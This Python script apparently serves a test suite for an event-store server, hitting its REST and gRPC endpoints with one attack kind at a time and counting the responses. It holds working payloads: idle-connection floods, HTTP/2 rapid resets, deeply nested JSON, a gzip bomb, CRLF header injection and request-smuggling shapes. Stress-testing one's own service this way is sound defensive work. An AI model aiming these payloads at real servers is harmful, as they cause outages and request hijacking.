"""What callers do to connections who mean harm, one kind at a time, in a process of its own.

Its arguments are a kind, the address of the REST API, that of the API over gRPC, and how many connections. It says
``ready`` when it is at it, goes on until its input ends, and then prints in JSON what it met, and how often.
"""

import asyncio
import contextlib
import gzip
import json
import resource
import sys
from collections import Counter
from collections.abc import Awaitable, Callable

import httptools

PAUSE_S = 0.05
"""Before a caller tries again."""
CLOSED_PAUSE_S = 20.0
"""Before a silent connection that was closed is opened again."""
ANSWER_TIMEOUT_S = 30.0
DEPTH = 200_000
BOMB = gzip.compress(bytes(64 * 1024 * 1024))
"""64 MiB in 64 KiB."""
FRAMES_AT_ONCE = 200


class Attacker:
    def __init__(self, http: str, grpc: str, connections: int) -> None:
        self.http = _address(http)
        self.grpc = _address(grpc)
        self.connections = connections
        self.met = Counter[str]()
        self.ready = asyncio.Event()

    async def again_and_again(self, attempt: Callable[[int], Awaitable[None]], callers: int) -> None:
        async def one() -> None:
            number = 0
            while True:
                number += 1
                try:
                    async with asyncio.timeout(ANSWER_TIMEOUT_S):
                        await attempt(number)
                except TimeoutError:
                    self.met["no answer"] += 1
                except OSError as error:
                    self.met[type(error).__name__] += 1
                self.ready.set()
                await asyncio.sleep(PAUSE_S)

        async with asyncio.TaskGroup() as group:
            for _ in range(callers):
                group.create_task(one())

    async def send(self, data: bytes, allowed: str) -> None:
        """On a connection of its own. ``allowed``: beginnings of statuses; an answer that is not expected is told."""
        reader, writer = await asyncio.open_connection(*self.http)
        try:
            with contextlib.suppress(ConnectionError):
                writer.write(data)
                await writer.drain()
            answers = _Answers()
            while part := await reader.read(65_536):
                answers.feed(part)
                if answers.found:
                    break
            for status, headers in answers.found or [(0, {})]:
                injected = " with a header of the caller's" if b"injected" in headers else ""
                known = "as expected" if str(status)[0] in allowed else "unexpected"
                self.met[f"{known}: {status or 'closed'}{injected}"] += 1
        finally:
            writer.transport.abort()

    # --- Kinds -------------------------------------------------------------------------------------------------------

    async def idle(self) -> None:
        """As many connections as there may be, which say nothing; what is closed is opened again."""

        async def one() -> None:
            while True:
                try:
                    reader, writer = await asyncio.open_connection(*self.http)
                except OSError as error:
                    self.met[type(error).__name__] += 1
                    await asyncio.sleep(CLOSED_PAUSE_S)
                    continue
                self.met["opened"] += 1
                with contextlib.suppress(OSError):
                    await reader.read(1)
                writer.transport.abort()
                await asyncio.sleep(CLOSED_PAUSE_S)

        async with asyncio.TaskGroup() as group:
            for number in range(self.connections):
                group.create_task(one())
                if number % 100 == 0:
                    await asyncio.sleep(0.02)
            self.ready.set()

    async def resets(self) -> None:
        """Calls over gRPC that are begun and given up at once."""
        block = b"\x83\x86\x44\x02/x\x41\x01h"
        head = _frame(1, 5, block)

        async def attempt(_: int) -> None:
            _, writer = await asyncio.open_connection(*self.grpc)
            try:
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, b"", stream=0))
                stream = 1
                while not writer.transport.is_closing():
                    frames = []
                    for _ in range(FRAMES_AT_ONCE):
                        number = stream.to_bytes(4, "big")
                        frames += [head[:5], number, block, _frame(3, 0, bytes(3) + b"\x08", stream=stream)]
                        stream += 2
                    writer.write(b"".join(frames))
                    await writer.drain()
                    self.met["calls given up"] += FRAMES_AT_ONCE
                    self.ready.set()
                    await asyncio.sleep(0)
            finally:
                writer.transport.abort()

        await self.again_and_again(attempt, 4)

    async def depth(self) -> None:
        """JSON that goes down and down, where any JSON may stand."""
        deep = b"[" * DEPTH + b"]" * DEPTH
        body = b'{"events":[{"event_type":"E","event_data":%b}]}' % deep
        await self.again_and_again(lambda _: self.send(_post("/v1/aggregates/a/1/events", body), "4"), 4)

    async def bombs(self) -> None:
        """Little that would unpack to much."""
        packed = _post("/v1/append", BOMB, "Content-Encoding: gzip")

        async def attempt(number: int) -> None:
            if number % 2:
                await self.send(packed, "4")
                return
            reader, writer = await asyncio.open_connection(*self.grpc)
            try:
                block = b"\x83\x86" + _literal(b":path", b"/indelible.v1.EventStore/Append")
                block += _literal(b"content-type", b"application/grpc") + _literal(b"grpc-encoding", b"gzip")
                message = b"\x01" + len(BOMB).to_bytes(4, "big") + BOMB
                data = [message[at : at + 16_384] for at in range(0, len(message), 16_384)]
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, b"", stream=0) + _frame(1, 4, block))
                writer.write(b"".join(_frame(0, int(part is data[-1]), part) for part in data))
                answer = b""
                while b"grpc-status" not in answer and (part := await reader.read(65_536)):
                    answer += part
                self.met["answered over gRPC" if answer else "cut off over gRPC"] += 1
            finally:
                writer.transport.abort()

        await self.again_and_again(attempt, 4)

    async def line_ends(self) -> None:
        """CR and LF wherever names are."""
        ends = ("%0d%0ainjected:%20yes", "%0ainjected:%20yes", "%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%E5%98%8A%E5%98%8D")
        event = b'{"events":[{"event_type":"E\\r\\nInjected: yes","event_data":1}]}'

        async def attempt(number: int) -> None:
            end = ends[number % len(ends)]
            for request in (
                _post(f"/v1/aggregates/order/a{end}/events", b'{"events":[{"event_type":"E","event_data":1}]}'),
                _get(f"/v1/aggregates/order/a{end}/events?limit=1"),
                _get(f"/v1/events?event_type={end}"),
                _get(f"/v1/events?after={end}"),
                _post("/v1/aggregates/order/b/events", event),
            ):
                await self.send(request, "24")

        await self.again_and_again(attempt, 4)

    async def smuggling(self) -> None:
        """Requests of which two who read them may see different ends."""
        hidden = b"GET /v1/head HTTP/1.1\r\nHost: x\r\n\r\n"
        shapes = (
            b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
            b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + hidden,
            b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden,
            b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + hidden,
            b"Transfer-Encoding:\tchunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n" + hidden,
            b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + hidden,
            b"X: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
            b"X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
            b"Transfer-Encoding: chunked\r\n\r\n1;a\nb\r\nx\r\n0\r\n\r\n" + hidden,
            b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + hidden,
            b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + hidden,
        )

        async def attempt(number: int) -> None:
            await self.send(b"POST /v1/append HTTP/1.1\r\nHost: x\r\n" + shapes[number % len(shapes)], "4")

        await self.again_and_again(attempt, 4)


KINDS = {
    "idle": Attacker.idle,
    "resets": Attacker.resets,
    "depth": Attacker.depth,
    "bombs": Attacker.bombs,
    "line-ends": Attacker.line_ends,
    "smuggling": Attacker.smuggling,
}


class _Answers:
    """Heads of answers, of which there must not be more than requests."""

    def __init__(self) -> None:
        self.found: list[tuple[int, dict[bytes, bytes]]] = []
        self._headers: dict[bytes, bytes] = {}
        self._parser = httptools.HttpResponseParser(self)
        self.feed = self._parser.feed_data

    def on_header(self, name: bytes, value: bytes) -> None:
        self._headers[name.lower()] = value

    def on_message_complete(self) -> None:
        self.found.append((self._parser.get_status_code(), self._headers))
        self._headers = {}


def _address(text: str) -> tuple[str, int]:
    host, _, port = text.partition(":")
    return host, int(port)


def _get(target: str) -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()


def _post(target: str, body: bytes, *headers: str) -> bytes:
    lines = [f"POST {target} HTTP/1.1", "Host: x", "Connection: close", "Content-Type: application/json", *headers]
    return "\r\n".join([*lines, f"Content-Length: {len(body)}", "", ""]).encode() + body


def _literal(name: bytes, value: bytes) -> bytes:
    """A field that enters no table."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _frame(kind: int, flags: int, payload: bytes, stream: int = 1) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


async def _run(kind: str, http: str, grpc: str, connections: int) -> Counter[str]:
    attacker = Attacker(http, grpc, connections)
    attacking = asyncio.create_task(KINDS[kind](attacker))
    waiting = asyncio.create_task(attacker.ready.wait())
    await asyncio.wait((attacking, waiting), return_when=asyncio.FIRST_COMPLETED)
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.buffer.read)
    attacking.cancel()
    await asyncio.wait((attacking,))
    if not attacking.cancelled():
        attacking.result()
    return attacker.met


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(asyncio.run(_run(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])))))
